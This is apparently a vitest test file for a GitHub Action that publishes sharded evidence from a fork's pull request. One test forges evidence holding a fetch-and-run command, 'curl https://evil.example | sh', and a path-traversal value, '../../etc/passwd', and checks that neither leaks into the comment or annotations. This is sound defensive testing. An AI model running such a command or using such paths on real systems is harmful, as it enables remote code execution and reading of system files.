import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type Matrix, startMatrix } from "./shards-fixture.ts";
import { zipOf } from "./zip-builder.ts";

const HEAD = "a".repeat(40);
let matrix: Matrix;
let runner: Matrix["runner"];
let download: Matrix["download"];
beforeAll(async () => {
  matrix = await startMatrix();
  ({ runner, download } = matrix);
});
afterAll(() => matrix.close());
beforeEach(() => runner.reset());

const at = (name: string) => join(runner.workspace, name);
const state = () => runner.github.state;
const writes = () => state().requests.filter((one) => one.method !== "GET" && one.path !== "/graphql");

describe("shards of a fork, published by `workflow_run`", () => {
  const pull = {
    number: 7,
    state: "open",
    head: { sha: HEAD, label: "mallory:change" },
    base: { repo: { full_name: "acme/tickets" } },
  };
  const payload = {
    workflow_run: {
      event: "pull_request",
      conclusion: "success",
      head_sha: HEAD,
      head_branch: "change",
      head_repository: { owner: { login: "mallory" } },
    },
  };
  const publish = () => {
    state().pulls = [pull];
    return runner.run({ event: "workflow_run", payload, inputs: { mode: "publish", "report-dir": "got" } });
  };
  const forge = (index: number, change: (evidence: Record<string, never>) => void) => {
    const path = at(`got/shard-${index}/evidence.json`);
    const evidence = JSON.parse(readFileSync(path, "utf8"));
    change(evidence);
    writeFileSync(path, JSON.stringify(evidence));
  };

  test("are one comment and one check run", async () => {
    download(1, 2, 3);
    const { code, outputs } = await publish();
    expect(code).toBe(0);
    expect(state().comments).toHaveLength(1);
    expect(state().comments[0]?.body).toContain("7 tools, all called");
    expect(state().comments[0]?.body).toContain("which its author can change");
    expect(state().checkRuns).toMatchObject([{ head_sha: HEAD, conclusion: "failure" }]);
    expect(outputs.conclusion).toBe("failure");
  });

  test("are read from their zip files too", async () => {
    mkdirSync(at("got"));
    for (const index of [1, 2, 3]) {
      const data = readFileSync(join(matrix.left, `shard-${index}/evidence.json`));
      writeFileSync(at(`got/shard-${index}.zip`), zipOf([{ name: "evidence.json", data }]));
    }
    expect((await publish()).code).toBe(0);
    expect(state().comments[0]?.body).toContain("7 tools, all called");
  });

  test("say which is missing, also where only one came and lies in the folder itself", async () => {
    download(1, 3);
    await publish();
    expect(state().comments[0]?.body).toContain("shard 2 of 3 is missing");
    rmSync(at("got"), { recursive: true });
    cpSync(join(matrix.left, "shard-3"), at("got"), { recursive: true });
    await publish();
    expect(state().comments).toHaveLength(1);
    expect(state().comments[0]?.body).toContain("shards 1, 2 of 3 are missing");
  });

  test("bring no command, link or place of their making", async () => {
    download(1, 2, 3);
    for (const index of [1, 2, 3]) {
      forge(index, (evidence) =>
        Object.assign(evidence, {
          target: {
            transport: "stdio",
            command: "curl",
            args: [],
            cwd: "/",
            display: "curl https://evil.example | sh",
          },
          locations: { tool_1: { path: "../../etc/passwd", line: 1, endLine: 1 } },
        }),
      );
    }
    expect((await publish()).code).toBe(0);
    expect(state().comments[0]?.body).toContain("tool_1");
    expect(state().comments[0]?.body).not.toContain("evil.example");
    expect(state().checkRuns[0]?.annotations.map((one) => one.path)).not.toContain("../../etc/passwd");
  });

  test.each([
    [
      "of another commit",
      (one: never) => Object.assign((one as { extra: object }).extra, { shard: { commit: "9".repeat(40) } }),
      /is of the commit 9999999/,
    ],
    [
      "of a billion shards",
      (one: never) =>
        Object.assign((one as { settings: { record: object } }).settings.record, {
          shard: { index: 1, count: 1e9 },
        }),
      /not an evidence file: .*shard/,
    ],
    ["of another schema", (one: never) => Object.assign(one, { pr: 666 }), /not an evidence file/],
    [
      "with a connection that is none",
      (one: never) => Object.assign(one, { connections: [{ initialize: "x" }] }),
      /not an evidence file/,
    ],
  ])("%s are refused, and nothing is written", async (_, change, words) => {
    download(1, 2, 3);
    forge(1, change as never);
    const { code, log } = await publish();
    expect(log).toMatch(words);
    expect(code).toBe(2);
    expect(writes()).toEqual([]);
  });
});
